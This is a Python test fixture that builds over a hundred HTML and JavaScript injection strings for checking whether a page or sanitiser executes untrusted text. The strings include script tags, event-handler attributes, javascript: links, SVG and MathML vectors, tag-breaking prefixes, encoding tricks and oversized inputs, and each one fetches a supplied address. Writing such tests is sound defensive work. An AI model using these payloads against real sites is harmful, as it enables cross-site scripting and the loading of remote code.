"""Texts that act where a page takes them for more than text; each asks the address given."""

from __future__ import annotations

from tests.assignments.nasty_too import more_nasty_texts

ACT = "document.title='PWNED';fetch('{at}act')"


def nasty_texts(at: str) -> list[str]:
    """At least a hundred of them."""
    act = ACT.format(at=at)
    tags = [
        f"<script>{act}</script>",
        f'<script src="{at}x.js"></script>',
        f'<img src=x onerror="{act}">',
        f'<img src="{at}x.png">',
        f'<svg onload="{act}"></svg>',
        f"<svg><script>{act}</script></svg>",
        f'<svg><image href="{at}x.png"/></svg>',
        f'<svg><use href="{at}x.svg#a"/></svg>',
        f'<svg><animate onbegin="{act}" attributeName=x dur=1s></svg>',
        f'<iframe src="{at}x.html"></iframe>',
        f'<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
        f'<object data="{at}x"></object>',
        f'<embed src="{at}x">',
        f'<link rel=stylesheet href="{at}x.css">',
        f'<link rel=prefetch href="{at}x">',
        f'<meta http-equiv=refresh content="0;url={at}x">',
        f'<base href="{at}">',
        f'<style>@import "{at}x.css"; body{{background:url({at}b)}}</style>',
        f'<body onload="{act}">',
        f'<details open ontoggle="{act}">x</details>',
        f'<input autofocus onfocus="{act}">',
        f'<video src="{at}v" onerror="{act}" autoplay></video>',
        f'<audio src="{at}a" autoplay></audio>',
        f'<form action="{at}f"><button autofocus onfocus="{act}">go</button></form>',
        f'<a href="javascript:{act}" id=x>click</a>',
        f'<div style="background:url({at}s)">x</div>',
        f'<table background="{at}t"><tr><td>x</table>',
        f'<marquee onstart="{act}">x</marquee>',
        f'<math><maction actiontype="statusline" xlink:href="javascript:{act}">x</maction></math>',
        f'<template shadowrootmode=open><img src=x onerror="{act}"></template>',
        f'<script type=module>import "{at}m.js"</script>',
        f'<frameset onload="{act}"></frameset>',
    ]
    leave = [
        "</pre>",
        "</textarea>",
        '">',
        "'>",
        "</title>",
        "</style>",
        "-->",
        "]]>",
        "</td></table>",
    ]
    broken = [end + tags[0] for end in leave] + [end + tags[2] for end in leave[:3]]
    words = [
        f"![x]({at}md.png)",
        f"[click](javascript:{act})",
        f"$\\href{{javascript:{act}}}{{x}}$",
        f"<<script>{act}//<</script>",
        f"<scr\x00ipt>{act}</scr\x00ipt>",
        f"\ufeff\u202e<script>{act}</script>",
        f"&lt;script&gt;{act}&lt;/script&gt;",
        f"+ADw-script+AD4-{act}+ADw-/script+AD4-",
        "<script" * 60_000,
        "x" * 1_000_000,
        "<" * 200_000,
        "\ud800 lone surrogate" + tags[0],
    ]
    return tags + broken + words + more_nasty_texts(at)
